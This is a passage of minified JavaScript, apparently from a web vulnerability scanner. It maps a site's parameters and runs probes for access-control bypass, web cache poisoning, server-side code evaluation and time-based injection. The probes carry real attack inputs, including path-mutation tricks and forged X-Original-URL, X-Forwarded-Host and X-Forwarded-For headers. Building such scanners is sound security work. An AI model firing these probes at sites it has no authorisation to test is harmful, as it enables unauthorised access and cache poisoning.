const value = Object.fromEntries(filled.map(([name, text]) => [ name, /^-?\d{1,15}$/.test(text) ? Number(text) : text ]));
const body = {
encoding: "json",
value: value
};
return filled.flatMap(([name, baseline], index) => /pass|pwd|secret/i.test(name) ? [] : [ {
kind: "json",
path: [ name ],
request: {
...request,
body: body
},
baseline: baseline,
...invented(members[index]?.[1] ?? "")
} ]);
}));
}
function endpoint(path, method, {document: document}, origin) {
const resolved = (0, document_base.O)(path, document.base);
const url = resolved === null ? null : new URL(resolved);
if (url === null || url.origin !== origin || (0, link_policy.eG)(url, method)) return null;
return {
method: method,
url: `${url.origin}${url.pathname}`,
query: []
};
}
function scripted_points_decoded(value) {
return /%[0-9a-f]{2}/i.test(value) ? (0, shared_text.oF)(value.replaceAll("+", " ")) : value;
}
function cookiePoints(crawl, pages) {
const found = new Map;
const add = ({name: name, value: value}, request) => {
const key = `${name} ${request.method} ${(0, url_shape.UD)(new URL(request.url))}`;
if (found.has(key)) return;
const cookies = [ [ name, value ] ];
found.set(key, {
kind: "cookie",
name: name,
request: {
...request,
cookies: cookies
},
baseline: value,
...invented(value)
});
};
for (const {exchange: exchange} of crawl.pages) {
const page = pages.find(({url: url}) => url === exchange.request.url);
for (const cookie of cookiesOf(exchange, page)) for (const request of readersOf(cookie, exchange, page)) add(cookie, request);
}
return [ ...found.values() ];
}
function cookiesOf({response: response}, page) {
const set = (0, http.UE)(response.headers, "set-cookie").flatMap(field => (0, set_cookie.s)(field) ?? []).filter(({deletes: deletes}) => !deletes).map(({name: name, value: value, path: path}) => ({
name: name,
value: scripted_points_decoded(value),
path: path ?? "/"
}));
const scripted = page?.scripts.flatMap(({cookies: cookies}) => cookies) ?? [];
return [ ...set, ...scripted.map(([name, value]) => ({
name: name,
value: value,
path: "/"
})) ].filter(({name: name, value: value}) => name !== "" && !(0, session_names.m)(name, value) && !(0, 
session_names.iQ)(name) && !(0, session_names.Od)(name));
}
function readersOf({path: path}, {request: request}, page) {
const forms = (page?.forms ?? []).filter(({action: action}) => new URL(action).pathname.startsWith(path));
if (forms.length > 0) return forms.map(form => formRequest(form));
const url = new URL(request.url);
const query = [ ...url.searchParams ].slice(0, 30);
return request.method === "GET" ? [ {
method: "GET",
url: `${url.origin}${url.pathname}`,
query: query
} ] : [];
}
async function plannedPoints(context, crawl, search) {
const {options: options, target: target} = context;
const {plain: plain, scripted: scripted, own: own} = shownPoints(context, crawl);
const ofHeaders = await headerPoints(context, crawl, plain, own, search);
const isSignedIn = context.identities.includes("user") || own.size > 0;
const signOuts = isSignedIn ? [] : signOutPoints(crawl.pages, target.origin, options);
const folders = context.scanType === "compliance" ? folderPoints(crawl, target.origin, options) : [];
const isCommon = commonTo(crawl, plain);
const planned = planner(context, isCommon);
return [ ...newNamesFirst(planned_points_distinct([ ...plain, ...scripted, ...ofHeaders ])).map(planned("parameter")), ...signOuts.map(planned("sign-out")), ...folders.map(planned("folder")) ];
}
function firstPoints(context, crawl) {
return furtherPoints(context, crawl).map(one => ({
...one,
isNamed: true
}));
}
function furtherPoints(context, crawl) {
const {plain: plain, scripted: scripted} = shownPoints(context, crawl);
const planned = planner(context, commonTo(crawl, plain));
return newNamesFirst(planned_points_distinct([ ...plain, ...scripted ])).map(planned("parameter"));
}
function shownPoints({options: options, target: target}, crawl) {
const allowsPost = options.active_post === true;
const own = new Set(Object.keys(options.request_headers ?? {}).map(name => name.toLowerCase()));
const plain = [ ...crawl.parameters, ...resourcePoints(crawl.pages, target.origin, options, crawl.parameters), ...pathPoints(crawl, options) ].filter(({request: request}) => (!isWrite(request) || allowsPost) && mayWrite(request));
const scripted = scriptedPoints(crawl, target.origin, own, allowsPost).filter(({request: request}) => mayWrite(request));
return {
plain: plain,
scripted: scripted,
own: own
};
}
function planner(context, isCommon = () => false) {
const named = namedPaths(context);
return role => point => ({
point: markedPoint(point, context.marker),
role: role,
shape: `${role} ${isCommon(point) ? `common ${planned_points_namesOf(point)}` : planned_points_shapeOf(point)}`,
isCommon: isCommon(point),
isNamed: named.has(new URL(point.request.url).pathname)
});
}
const OWN_MAX = 3;
function commonTo({pages: pages}, points) {
const paths = new Map;
const pathOf = url => new URL(url).pathname;
for (const point of points) {
const names = planned_points_namesOf(point);
paths.set(names, (paths.get(names) ?? new Set).add(pathOf(point.request.url)));
}
const known = new Set(pages.map(({url: url}) => pathOf(url))).size;
return point => {
const count = point.kind === "path" ? 0 : paths.get(planned_points_namesOf(point))?.size ?? 0;
return count > OWN_MAX && count * 3 > known;
};
}
function planned_points_namesOf(point) {
const {method: method, query: query, body: body} = point.request;
const sent = body !== undefined && (0, insertion_point.Ce)(body) ? body.fields : [];
const names = [ ...query, ...sent ].map(([name]) => name).sort();
return JSON.stringify([ method, point.kind, "name" in point ? point.name : "", ...names ]);
}
function namedPaths({target: target, options: options}) {
const urls = [ target.startUrl, ...[ ...options.first_paths ?? [], ...options.extra_paths ?? [] ].flatMap(path => URL.parse(path, target.origin) ?? []) ];
return new Set(urls.map(url => new URL(url).pathname));
}
function planned_points_distinct(points) {
const found = new Map;
for (const point of points) {
const key = sentKey(point);
if (!found.has(key)) found.set(key, point);
}
return [ ...found.values() ];
}
function sentKey(point) {
return `${point.kind} ${JSON.stringify((0, insertion_point.y7)(point, "\0"))}`;
}
function newNamesFirst(points) {
const seen = new Set;
const [fresh, repeated] = [ [], [] ];
for (const point of points) {
const key = pointKey(point);
(seen.has(key) ? repeated : fresh).push(point);
seen.add(key);
}
return [ ...fresh, ...repeated ];
}
function planned_points_shapeOf(point) {
const {method: method, url: url, query: query} = point.request;
if (point.kind === "path" && !/^\d+$/.test(point.baseline)) return `${method} path ${url.split("/").length}`;
if (point.kind === "cookie") return `${method} cookie ${point.name}`;
const address = new URL(`${url}?${new URLSearchParams(query.map(pair => [ ...pair ]))}`);
const name = point.kind === "json" ? point.path.join("/") : "name" in point ? point.name : "";
return `${method} ${point.kind} ${(0, url_shape.T2)(address)} ${name}`;
}
const ROUND_MAX = 16;
const point_plan_ALIKE = 3;
class PointPlan {
#shapes=new Map;
#named=[];
#known=0;
#covered=0;
#missed={
requests: 0,
time: 0,
not_reached: 0
};
constructor(points) {
this.add(points);
}
add(points) {
this.#known += points.length;
for (const planned of points) {
const {shape: shape, isNamed: isNamed} = planned;
const known = this.#shapes.get(shape) ?? {
waiting: [],
behaviours: new Map,
tested: 0
};
this.#shapes.set(shape, known);
(isNamed ? this.#named : known.waiting).push(planned);
}
}
next() {
const named = this.#named.splice(0, ROUND_MAX);
const room = ROUND_MAX - named.length;
const fresh = this.#take(({tested: tested}) => tested === 0, 1, room);
if (named.length + fresh.length > 0) return [ ...named, ...fresh ];
const siblings = this.#take(shape => !isSettled(shape), point_plan_ALIKE - 1, ROUND_MAX);
return siblings.length > 0 ? siblings : this.#take(() => true, point_plan_ALIKE, ROUND_MAX);
}
#take(isWanted, each, room) {
const taken = [];
const wanted = [ ...this.#shapes.values() ].filter(isWanted);
for (let turn = 0; turn < each; turn += 1) for (const shape of wanted) {
const point = taken.length < room ? shape.waiting.shift() : undefined;
if (point === undefined) continue;
shape.tested += 1;
taken.push(point);
}
return taken;
}
cover({shape: shape}, behaviour) {
this.#covered += 1;
const behaviours = this.#shapes.get(shape)?.behaviours;
behaviours?.set(behaviour, (behaviours.get(behaviour) ?? 0) + 1);
}
miss(reason) {
this.#missed[reason] += 1;
}
reach(ended) {
const folded = [ ...this.#shapes.values() ].filter(isSettled).reduce((sum, {waiting: waiting}) => sum + waiting.length, 0);
const {requests: requests, time: time, not_reached: not_reached} = this.#missed;
const rest = this.#known - this.#covered - requests - time - not_reached - folded;
const counts = {
time: time,
requests: requests,
folded: folded,
not_reached: not_reached
};
counts[ended ?? "time"] += rest;
const left_out = [ "time", "requests", "folded", "not_reached" ].map(reason => ({
reason: reason,
count: counts[reason]
})).filter(({count: count}) => count > 0);
return {
known: this.#known,
covered: this.#covered,
left_out: left_out
};
}
}
function isSettled({behaviours: behaviours}) {
return Math.max(0, ...behaviours.values()) >= point_plan_ALIKE;
}
const PROVEN_QUERY = [ "sqli", "sqli-boolean", "xpath-injection", "ldap-injection", "nosql-injection" ];
const PROVEN_TARGET = [ "open-redirect", "ssrf", "path-traversal", "file-inclusion", "command-injection" ];
const BOTH = [ "standard", "compliance" ];
const FIELDS = [ "parameter", "alone" ];
function defineProbe(definition) {
return {
scanTypes: BOTH,
roles: FIELDS,
unless: [],
...definition,
needs: definition.needs ?? [],
run: (injector, seen) => definition.run(injector, seen)
};
}
function runsIn({checks: checks, scanTypes: scanTypes}, {scanType: scanType, options: options}) {
return scanTypes.includes(scanType) && checks.some(({meta: meta}) => options.disable_checks?.includes(meta.id) !== true);
}
function isFitting(probe, injector, seen) {
return probe.roles.includes(seen.role) && ![ probe.family, ...probe.unless ].some(family => injector.has(family)) && probe.needs.every(need => seen[need] !== null) && probe.appliesTo?.(injector.point, seen) !== false;
}
const probe_stored_READS_MAX = {
quick: 0,
standard: 20,
compliance: 40
};
const PAGES_EACH = 3;
class StoredPages {
#context;
#probes;
#maxBytes;
#before;
#formPages=new Map;
#judged=new Map;
#seen=new Set;
#reads;
constructor(context, probes, {pages: pages}, maxBytes) {
this.#context = context;
this.#probes = probes;
this.#maxBytes = maxBytes;
this.#reads = probe_stored_READS_MAX[context.scanType];
const read = pages.map(({exchange: exchange}) => exchange).filter(({request: request}) => request.method === "GET");
this.#before = new Map(read.map(exchange => [ exchange.request.url, exchange ]));
for (const exchange of read) for (const {action: action} of (0, html_document.lM)(exchange)?.forms ?? []) if (!this.#formPages.has(action)) this.#formPages.set(action, exchange.request.url);
}
async afterPoint(written) {
if (!hasStored(written)) return;
const form = this.#formPages.get(written.injector.point.request.url);
const next = [ written.seen.letters, written.seen.quoted ].map(sent => this.#redirectOf(sent));
for (const url of new Set([ ...next, form ])) if (url != null) await this.#judge([ written ], await this.#read(url));
}
async afterRound(round) {
const written = round.filter(hasStored);
if (written.length === 0) return;
const due = [ ...this.#before.keys() ].filter(url => !this.#seen.has(url));
for (const url of due.slice(0, this.#reads)) {
this.#reads -= 1;
this.#seen.add(url);
await this.#judge(written, await this.#read(url));
}
}
#redirectOf(sent) {
const {request: request, response: response} = sent?.exchange ?? {};
const to = (0, http.wx)(response?.headers ?? [], "location");
const url = to === undefined ? null : URL.parse(to, request?.url);
const {target: target, options: options} = this.#context;
if (url?.origin !== target.origin || !(0, link_policy.af)(url, options) || (0, link_policy.Ch)(url)) return null;
url.hash = "";
return url.href;
}
async #read(url, isAnonymous) {
const {signal: signal} = this.#context;
if (signal.aborted || this.#context.room("active").milliseconds === 0) return null;
const whose = isAnonymous === undefined ? {} : {
isAnonymous: isAnonymous
};
const attempt = await this.#context.fetch({
url: url,
maxBytes: this.#maxBytes,
fresh: true,
...whose
});
return (0, http.m_)(attempt) ? attempt : null;
}
async #judge(written, page) {
if (page === null) return;
const {url: url} = page.request;
for (const {injector: injector, seen: seen} of written) {
const shown = sent => {
const marked = sent === null ? null : {
exchange: page,
marker: sent.marker
};
return marked !== null && (0, reflection.Vt)(marked) ? marked : null;
};
const [letters, quoted] = [ shown(seen.letters), shown(seen.quoted) ];
const judged = this.#judged.get(injector) ?? new Set;
if ((letters ?? quoted) === null || judged.has(url) || judged.size >= PAGES_EACH) continue;
this.#judged.set(injector, judged.add(url));
const read = isAnonymous => this.#read(url, isAnonymous);
const view = {
injector: injector,
page: page,
before: this.#before.get(url) ?? null,
letters: letters,
quoted: quoted,
read: read
};
for (const probe of this.#probes) await probe.run(view);
}
}
}
function hasStored({injector: injector, seen: seen}) {
const isAccepted = sent => sent !== null && sent.exchange.response.status < 400;
return isWrite(injector.point.request) && (isAccepted(seen.letters) || isAccepted(seen.quoted));
}
var web_technologies = __webpack_require__(79002);
const RESPONSE_BYTES_MAX = 256 * 1024;
const RESPONSE_BYTES_MIN = 32 * 1024;
const RESPONSES_MIN = 300;
const RESPONSES_EACH = 15;
function responseBytes(bytesLeft, points) {
const share = Math.floor(bytesLeft / Math.max(RESPONSES_MIN, points * RESPONSES_EACH));
return Math.min(RESPONSE_BYTES_MAX, Math.max(RESPONSE_BYTES_MIN, share));
}
async function scanFacts(context, crawl, callbacks) {
return {
isThorough: context.scanType === "compliance",
origin: context.target.origin,
site: siteFacts(crawl, await knownFile(context, crawl)),
callbacks: callbacks,
responses: new Map,
clock: new semaphore.j(1)
};
}
function siteFacts(crawl, known) {
const banner = crawl.pages.map(({exchange: {response: response}}) => [ "server", "x-powered-by", "set-cookie" ].map(name => (0, 
http.wx)(response.headers, name))).join(" ");
const urls = crawl.parameters.map(({request: request}) => request.url).join(" ");
const isWindows = /iis|asp\.net|win(?:32|64|dows)/i.test(banner) || /\.aspx?\b/i.test(urls) || crawl.parameters.some(({baseline: baseline}) => /^(?:file:\/*)?[a-z]:[\\/]/i.test(baseline));
const technologies = (0, web_technologies.m)(crawl);
const server = technologies.has("java") ? "java" : "other";
const endsAtZero = technologies.has("php") || /\.(?:cgi|pl)\b/i.test(urls);
return {
server: server,
isWindows: isWindows,
endsAtZero: endsAtZero,
contextPath: contextPathOf(crawl),
known: known
};
}
function contextPathOf(crawl) {
for (const {exchange: exchange} of crawl.pages) for (const field of (0, http.UE)(exchange.response.headers, "set-cookie")) {
const cookie = (0, set_cookie.s)(field);
if (cookie?.name.toLowerCase() === "jsessionid" && cookie.path !== null) return cookie.path;
}
return null;
}
async function knownFile(context, {pages: pages, resources: resources}) {
const isKnown = ({response: response}) => response.status === 200 && response.text.length > 100;
const script = resources.find(isKnown);
if (script !== undefined) return {
path: new URL(script.request.url).pathname,
body: script.response.text
};
const sheets = pages.flatMap(({exchange: exchange}) => (0, html_document.lM)(exchange)?.stylesheets ?? []);
const sheet = sheets.map(({url: url}) => new URL(url)).find(url => url.origin === context.target.origin && (0, 
link_policy.af)(url, context.options));
if (context.scanType !== "compliance" || sheet === undefined) return null;
const attempt = await context.fetch({
url: sheet.href
});
return (0, http.m_)(attempt) && isKnown(attempt) ? {
path: sheet.pathname,
body: attempt.response.text
} : null;
}
var steady_response = __webpack_require__(51115);
const COMMON_VALUES = [ "1", "a" ];
async function steadyValue(injector, letters, quoted, known) {
if (letters === null) return null;
for (const value of valuesOf(injector.point)) {
const first = await sendOnce(injector, value, known);
if (first === null) return null;
const own = (0, steady_response.o)(first, value, value);
if (first.response.status >= 400 || (0, steady_response.o)(letters.exchange, letters.marker, value) === own) continue;
if (value === injector.point.baseline && quoted !== null && steady_value_isSame(quoted, value, own)) return {
value: value,
first: first,
second: first,
endsAtQuotes: true
};
const second = await injector.repeat(value);
if (second === null || (0, steady_response.o)(second, value, value) !== own) return null;
return {
value: value,
first: first,
second: second,
endsAtQuotes: false
};
}
return null;
}
function valuesOf({baseline: baseline, isInvented: isInvented}) {
return (isInvented === true ? [ baseline, ...COMMON_VALUES ] : [ baseline ]).filter(value => value !== "");
}
function sendOnce(injector, value, known) {
const request = JSON.stringify((0, insertion_point.y7)(injector.point, value));
const sent = known.get(request) ?? injector.send(value);
known.set(request, sent);
return sent;
}
function steady_value_isSame({exchange: exchange, marker: marker}, value, own) {
return (0, steady_response.o)(exchange, (0, reflection.A0)(value, marker), value) === own;
}
class Seen {
scan;
role;
linked;
canary="";
letters=null;
quoted=null;
reflected=null;
afterShell=null;
#injector;
#steady=null;
constructor(scan, role, injector, linked) {
this.scan = scan;
this.role = role;
this.linked = linked;
this.#injector = injector;
}
async look() {
const injector = this.#injector;
this.canary = injector.token();
const marker = injector.token();
const letters = await injector.send(this.canary);
this.letters = letters === null ? null : {
exchange: letters,
marker: this.canary
};
if (letters !== null && this.letters !== null && (0, reflection.Vt)(this.letters) && !await injector.keepsApart(letters, this.canary)) return;
const quoted = await injector.send((0, reflection.A0)(injector.point.baseline, marker));
this.quoted = quoted === null ? null : {
exchange: quoted,
marker: marker
};
this.reflected = (0, reflection.he)(this.letters, this.quoted, injector.point.baseline);
}
async differsFrom({canary: canary, letters: letters}) {
const own = letters === null ? null : await this.#injector.send(canary);
if (own === null || letters === null) return false;
return (0, steady_response.o)(own, canary, canary) !== (0, steady_response.o)(letters.exchange, canary, canary);
}
get callbacks() {
return this.scan.callbacks;
}
get inQuotes() {
return this.quoted !== null && (0, reflection.Vt)(this.quoted) ? this.quoted : null;
}
behaviour(onOtherPages) {
const families = [ ...new Set(this.#injector.notes.map(({family: family}) => family)) ].sort();
const summary = seen => summaryOf(seen, onOtherPages ? 0 : TAGS_MAX);
return [ summary(this.letters), summary(this.quoted), families.join(" ") ].join("\n");
}
steady() {
this.#steady ??= steadyValue(this.#injector, this.letters, this.quoted, this.scan.responses);
return this.#steady;
}
}
function linkedTo(point, crawl) {
if (point.kind !== "query") return null;
const responses = [ ...crawl.pages.map(({exchange: exchange}) => exchange), ...crawl.redirects ?? [] ];
const isIts = ({request: request}) => request.url.startsWith(`${point.request.url}?`) && new URL(request.url).searchParams.get(point.name) === point.baseline;
return responses.find(isIts) ?? null;
}
const seen_TEXT_MAX = 64 * 1024;
const TAGS_MAX = 300;
function summaryOf(seen, tagsMax) {
if (seen === null) return "none";
const {status: status, headers: headers, text: text} = seen.exchange.response;
const tags = text.slice(0, seen_TEXT_MAX).match(/<[a-z][a-z\d-]{0,30}/gi) ?? [];
const isRedirect = ((0, http.wx)(headers, "location") ?? "").toLowerCase().includes(seen.marker);
return JSON.stringify([ status, ((0, http.wx)(headers, "content-type") ?? "").split(";", 1)[0], isRedirect, (0, 
reflection.Vt)(seen), (0, reflection.Vt)({
exchange: seen.exchange,
marker: `${seen.marker}<`
}), looksFailed(text), tags.slice(0, tagsMax).join("") ]);
}
const WRITES_MAX = {
quick: 0,
standard: 50,
compliance: 100
};
const write_log_CREATED_MAX = 100;
class WriteLog {
#max;
#byForm=new Map;
#byPath=new Map;
#first=new Map;
constructor(max) {
this.#max = max;
}
take(request) {
const key = formKey(request);
const count = this.#byForm.get(key) ?? 0;
if (count >= this.#max) return false;
this.#byForm.set(key, count + 1);
return true;
}
note(request, exchange) {
if (exchange === null || exchange.response.status >= 400) {
const key = formKey(request);
this.#byForm.set(key, (this.#byForm.get(key) ?? 1) - 1);
return;
}
const path = new URL(request.url).pathname;
this.#byPath.set(path, (this.#byPath.get(path) ?? 0) + 1);
if (!this.#first.has(request.url)) this.#first.set(request.url, exchange);
}
responseOf(url) {
return this.#first.get(url);
}
get created() {
return [ ...this.#byPath ].map(([path, count]) => ({
path: path,
count: count
})).sort((one, other) => other.count - one.count || (one.path < other.path ? -1 : 1)).slice(0, write_log_CREATED_MAX);
}
}
function siblingPath(path, token) {
const bare = path.split("?")[0] ?? "";
const isFolder = bare.endsWith("/");
const segments = bare.split("/").filter(segment => segment !== "");
const last = segments.length - 1;
const renamed = segments.map((segment, index) => {
if (index !== last) return segment.startsWith(".") ? `.${token}` : segment;
if (segment.startsWith(".")) return `.${token}`;
const ending = isFolder ? "" : /\.\w+~$|\.[A-Za-z0-9]{1,10}$/.exec(segment)?.[0] ?? "";
return `${token}${ending}`;
});
return `/${renamed.join("/")}${isFolder && renamed.length > 0 ? "/" : ""}`;
}
var access_bypass = __webpack_require__(48446);
var opened = __webpack_require__(2330);
const probe_bypass_PAGES_MAX = 3;
const accessBypasses = {
checks: [ access_bypass.H ],
scanTypes: [ "standard", "compliance" ],
async run(context, crawl, keys) {
const found = [];
for (const page of refusedPages(context, crawl)) found.push(...await new Bypass(context, crawl, keys, page).run());
return found;
}
};
function refusedPages({place: place}, {pages: pages}) {
const refused = pages.filter(({url: url, exchange: exchange}) => (0, opened.H0)(exchange) && !(0, 
link_policy.Ch)(new URL(url)) && new URL(url).pathname !== "/" && (place === undefined || url === place.location.url));
const shapes = new Map(refused.toReversed().map(page => [ (0, url_shape.j4)(new URL(page.url)), page ]));
const rank = ({url: url}) => (0, data_names.cP)("administrative", new URL(url).pathname) ? 0 : 1;
return [ ...shapes.values() ].toReversed().sort((one, other) => rank(one) - rank(other)).slice(0, probe_bypass_PAGES_MAX);
}
const asPath = of => ({
parameter: "path",
of: path => ({
path: of(path)
})
});
const bare = path => path.replace(/\/$/, "");
function lastLetter(path, of) {
const start = bare(path).lastIndexOf("/");
return path.slice(0, start) + path.slice(start).replace(/[a-z]/i, of);
}
const FORMS = [ asPath(path => path.endsWith("/") ? bare(path) : `${path}/`), asPath(path => `${bare(path)}/.`), asPath(path => `/${path}`), asPath(path => `/.${path}`), asPath(path => `/%2e${path}`), asPath(path => `${bare(path)};/`), asPath(path => `/;${path}`), asPath(path => `${bare(path)}%20`), asPath(path => lastLetter(path, letter => letter.toUpperCase())), asPath(path => lastLetter(path, letter => `%${letter.charCodeAt(0).toString(16)}`)), ...[ "X-Original-URL", "X-Rewrite-URL" ].map(name => ({
parameter: `header ${name}`,
of: path => ({
path: "/",
headers: [ [ name, path ] ]
})
})), {
parameter: "header X-Forwarded-For",
of: path => ({
path: path,
headers: [ [ "X-Forwarded-For", "127.0.0.1" ], [ "X-Real-IP", "127.0.0.1" ] ]
})
} ];
class Bypass {
#context;
#crawl;
#keys;
#page;
constructor(context, crawl, keys, page) {
this.#context = context;
this.#crawl = crawl;
this.#keys = keys;
this.#page = page;
}
async run() {
const {url: url} = this.#page;
const {pathname: pathname} = new URL(url);
if (await this.#keys.mayPoison(url)) return [];
for (const form of FORMS) {
const {path: path} = form.of(pathname);
if (form.parameter === "path" && (path === pathname || this.#isPublic(path))) continue;
const first = await this.#send(form, pathname);
const found = first === null || !(0, opened.oB)(first, this.#page.exchange) ? null : await this.#prove(form, first);
if (found !== null) return found;
}
return [];
}
async #prove(form, first) {
const {url: url} = this.#page;
const {pathname: pathname} = new URL(url);
const again = await this.#send(form, pathname);
if (again === null || this.#publicPages().some(exchange => (0, opened.S1)([ first, again ], exchange))) return null;
const control = await this.#send(form, siblingPath(pathname, this.#context.token(10)));
if (control === null || (0, opened.S1)([ first, again ], control)) return null;
const refused = await this.#context.fetch({
url: url,
fresh: true
});
if (!(0, http.m_)(refused) || !(0, opened.H0)(refused)) return null;
const {path: path, headers: headers} = form.of(pathname);
const payload = headers?.[0]?.[1] ?? path;
const common = {
family: "access-bypass",
method: "GET",
url: url,
parameter: form.parameter,
payload: payload
};
const steps = {
refused: refused,
bypass: first,
again: again,
control: control
};
return Object.entries(steps).map(([step, exchange]) => ({
...common,
marker: url,
step: step,
exchange: exchange
}));
}
#isPublic(path) {
return this.#publicPages().some(({request: request}) => new URL(request.url).pathname === path);
}
#publicPages() {
if (this.#context.place !== undefined) return [];
return this.#crawl.pages.map(({exchange: exchange}) => exchange).filter(({response: response}) => response.status < 300);
}
async #send(form, pathname) {
if (this.#context.room("active").milliseconds === 0) return null;
const {origin: origin, search: search} = new URL(this.#page.url);
const {path: path, headers: headers = []} = form.of(pathname);
const query = `${search === "" ? "?" : `${search}&`}${(0, cache_buster.qq)(this.#context.token(10))}`;
const attempt = await this.#context.fetch({
url: `${origin}${path}${query}`,
headers: headers,
fresh: true
});
return (0, http.m_)(attempt) ? attempt : null;
}
}
var cache_poisoning = __webpack_require__(68420);
var poisoned = __webpack_require__(52754);
const probe_cache_PAGES_MAX = 5;
const probe_cache_BODY_BYTES_MAX = 256 * 1024;
const SHOWN_MAX = 3;
const ROUNDS = 2;
const poisonedCaches = {
checks: [ cache_poisoning.r ],
scanTypes: [ "standard", "compliance" ],
async run(context, crawl, keys) {
const found = [];
for (const url of cachedPages(context, crawl, keys)) if (await keys.at(url) === "apart") found.push(...await new Poisoning(context, url).run());
return found;
}
};
function cachedPages({target: target, place: place}, crawl, keys) {
const seen = [ ...crawl.pages.map(({exchange: exchange}) => exchange), ...crawl.resources ];
const urls = seen.map(({request: request}) => (0, cache_buster.un)(request.url));
const chosen = urls.filter(url => place !== undefined || url === target.startUrl || keys.isCached(url));
return [ ...new Map(chosen.map(url => [ new URL(url).pathname, url ])).values() ].slice(0, probe_cache_PAGES_MAX);
}
const asHeader = (name, value = marker => marker) => ({
parameter: `header ${name}`,
with: (url, text) => ({
url: url,
headers: [ [ name, text ] ]
}),
value: value
});
const REPEATED = [ "X-Forwarded-Prefix", "X-Forwarded-For", "Referer", "User-Agent" ].map(name => asHeader(name));
const HOSTS = [ "X-Forwarded-Host", "X-Host", "X-Forwarded-Server" ].map(name => asHeader(name, marker => `${marker}.example`));
const CAMPAIGN = [ "utm_source", "utm_content", "gclid", "fbclid" ].map(name => ({
parameter: name,
with: (url, text) => ({
url: `${url}&${name}=${encodeURIComponent(text)}`
}),
value: marker => marker
}));
const REPLACING = [ ...[ "X-Original-URL", "X-Rewrite-URL" ].map(name => asHeader(name, marker => `/${marker}`)), asHeader("X-Forwarded-Proto", () => "http"), probe_cache_asPath((path, marker) => `/${marker}/..${path}`), probe_cache_asPath((path, marker) => `/${marker}%2f..${path}`) ];
function probe_cache_asPath(form) {
return {
parameter: "path",
with: (url, text) => ({
url: `${new URL(url).origin}${text}${new URL(url).search}`
}),
value: marker => form("{path}", marker)
};
}
class Poisoning {
#context;
#url;
constructor(context, url) {
this.#context = context;
this.#url = url;
}
async run() {
const found = [];
for (const group of [ REPEATED, HOSTS, CAMPAIGN ]) for (const input of await this.#shown(group)) found.push(...await this.#prove(input));
const plain = await this.#send({
url: this.#address()
});
if (plain === null) return found;
for (const input of REPLACING) found.push(...await this.#proveOther(input, plain));
return found;
}
async #shown(inputs) {
const marked = inputs.map(input => ({
input: input,
marker: this.#context.token(10)
}));
const sent = marked.reduce(({url: url, headers: headers = []}, {input: input, marker: marker}) => {
const next = input.with(url, input.value(marker));
return {
url: next.url,
headers: [ ...headers, ...next.headers ?? [] ]
};
}, {
url: this.#address()
});
const response = await this.#send(sent);
if (response === null) return [];
return marked.filter(({marker: marker}) => (0, poisoned.L)(response, marker)).map(({input: input}) => input).slice(0, SHOWN_MAX);
}
async #prove(input) {
for (const suffix of HOSTS.includes(input) ? [ "" ] : [ `${reflection.cl}<.`, "" ]) {
const marker = this.#context.token(10);
const payload = input.value(marker) + suffix;
const found = await this.#poison(input, payload, marker);
const [first, second, control] = found.map(({exchange: exchange}) => exchange);
if (first === undefined || second === undefined || control === undefined) continue;
if ((0, poisoned.L)(first, marker) && (0, poisoned.L)(second, marker)) return (0, 
poisoned.L)(control, marker) ? [] : found;
}
return [];
}
async #proveOther(input, plain) {
let found = [];
for (let round = 0; round < ROUNDS; round += 1) {
const marker = this.#context.token(10);
const value = input.value(marker).replace("{path}", new URL(this.#url).pathname);
found = await this.#poison(input, value, marker, plain);
const [first, second, control] = found.map(({exchange: exchange}) => exchange);
if (first === undefined || second === undefined || control === undefined) return [];
if ((0, poisoned.b)(second, first) || (0, poisoned.b)(control, plain)) return [];
}
return found;
}
async #poison(input, payload, marker, plain) {
const address = this.#address();
const first = await this.#send(input.with(address, payload));
if (first === null || (plain === undefined ? !(0, poisoned.L)(first, marker) : !(0, 
poisoned.b)(first, plain))) return [];
const second = await this.#send({
url: address
});
const control = second === null ? null : await this.#send({
url: this.#address()
});
if (second === null || control === null) return [];
const {parameter: parameter} = input;
const common = {
family: "cache-poisoning",
method: "GET",
url: this.#url,
parameter: parameter,
payload: payload,
marker: marker
};
return [ {
...common,
step: "poison",
exchange: first
}, {
...common,
step: "poisoned",
exchange: second
}, {
...common,
step: "control",
exchange: control
} ];
}
#address() {
return (0, cache_buster.SG)(this.#url, this.#context.token(10));
}
async #send({url: url, headers: headers = []}) {
if (this.#context.room("active").milliseconds === 0) return null;
const attempt = await this.#context.fetch({
url: url,
headers: headers,
identity: "none",
maxBytes: probe_cache_BODY_BYTES_MAX,
fresh: true
});
return (0, http.m_)(attempt) ? attempt : null;
}
}
var arithmetic = __webpack_require__(51197);
var code_evaluation = __webpack_require__(57048);
var code_payloads = __webpack_require__(12961);
const codeExpressions = defineProbe({
family: "code-evaluation",
checks: [ code_evaluation.A ],
unless: [ ...PROVEN_QUERY, ...PROVEN_TARGET, "template-injection" ],
needs: [ "letters", "quoted" ],
cost: 1,
run: probeCode
});
async function probeCode(injector, {letters: letters, quoted: quoted}) {
const factors = (0, arithmetic.LM)(injector.token());
const product = await injector.send(`${factors.a}*${factors.b}`);
if (product === null) return;
const isComputed = (0, arithmetic.yw)(product.response.text, factors, "");
const inStrings = isFailed(quoted) && !isFailed(letters) ? [ "'", '"' ] : [];
for (const place of isComputed ? [ null ] : inStrings) for (const syntax of code_payloads.cW) if (await proves(injector, syntax, place)) return;
}
async function proves(injector, syntax, place) {
const word = injector.token();
const evaluated = async () => {
const payload = (0, code_payloads.gk)(syntax, (0, arithmetic.LM)(injector.token()), word, place);
const exchange = await injector.send(payload);
return exchange !== null && (0, code_payloads.xT)(exchange.response.text, payload, word) ? {
payload: payload,
exchange: exchange
} : null;
};
const hit = await evaluated();
const again = hit === null ? null : await evaluated();
if (hit === null || again === null) return false;
injector.note("code-evaluation", `output: ${syntax.languages}`, hit.payload, word, hit.exchange);
injector.note("code-evaluation", "again", again.payload, word, again.exchange);
return true;
}
function isFailed({exchange: {response: response}}) {
return response.status >= 500 || looksFailed(response.text);
}
var delay_procedure = __webpack_require__(18402);
async function probeDelay(injector, family, syntaxes) {
const {baseline: baseline} = injector.point;
for (const {name: name, suffix: suffix} of syntaxes) {
const received = [];
const measure = async delay => {
const start = performance.now();
const exchange = await injector.repeat(baseline + suffix(delay));
const seconds = (performance.now() - start) / 1e3;
if (exchange === null) return null;
received.push(exchange);
return seconds;
};
const proof = await (0, delay_procedure.i)(measure, () => (0, arithmetic.LM)(injector.token()).a % 1e3 / 1e3);
if (proof === null) continue;
const marker = injector.token();
const ofRounds = received.slice(-proof.rounds.length);
for (const [index, {requested: requested, measured: measured}] of proof.rounds.entries()) {
const exchange = ofRounds[index];
if (exchange === undefined) return;
const step = `round: ${requested} ${measured.toFixed(3)} ${name}`;
